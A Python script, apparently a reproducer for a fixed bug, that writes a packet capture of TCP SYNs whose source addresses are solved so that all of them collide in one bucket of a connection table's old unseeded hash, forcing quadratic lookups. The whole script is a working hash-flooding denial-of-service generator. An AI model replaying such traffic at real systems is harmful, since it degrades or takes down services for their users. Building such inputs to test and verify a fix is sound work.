#!/usr/bin/env python3
"""Write a capture of N TCP SYNs chosen to share one bucket of the
connection table's hash as it was before it was seeded: every key gets
the same value `a` = src * 0x9e3779b1 ^ sport * 0x85ebca6b (mod 2^32)
by solving for the source address of each source port, to one server.
Unseeded, the table's lookups walk one chain (quadratic time); seeded,
the keys spread.  usage: collide.py N OUT.pcap"""
import struct
import sys

C, D = 0x9e3779b1, 0x85ebca6b
C_INV = pow(C, -1, 1 << 32)
M = 0xffffffff


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def main():
    n, out = int(sys.argv[1]), sys.argv[2]
    dst = bytes([10, 99, 0, 1])
    base_src, base_port = 0x0a630002, 40000
    # The old hash read the address as a host-order (little-endian) word.
    w0 = struct.unpack("<I", struct.pack("!I", base_src))[0]
    target = ((w0 * C) & M) ^ ((base_port * D) & M)
    with open(out, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        for i in range(n):
            sport = 1024 + i
            w = (((target ^ ((sport * D) & M)) * C_INV) & M)
            src = struct.pack("<I", w)
            tcp = struct.pack("!HHIIBBHHH", sport, 80, 1000 + i, 0, 5 << 4, 0x02, 64240, 0, 0)
            pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
            tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xffff, 0x4000, 64, 6, 0,
                             src, dst)
            ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
            eth = b"\x52\x54\x00\x00\x00\x02" + b"\x52\x54\x00\x00\x00\x01" + b"\x08\x00"
            frame = eth + ip + tcp
            f.write(struct.pack("<IIII", 1700000000 + i // 1000, (i % 1000) * 1000, len(frame),
                                len(frame)))
            f.write(frame)


main()
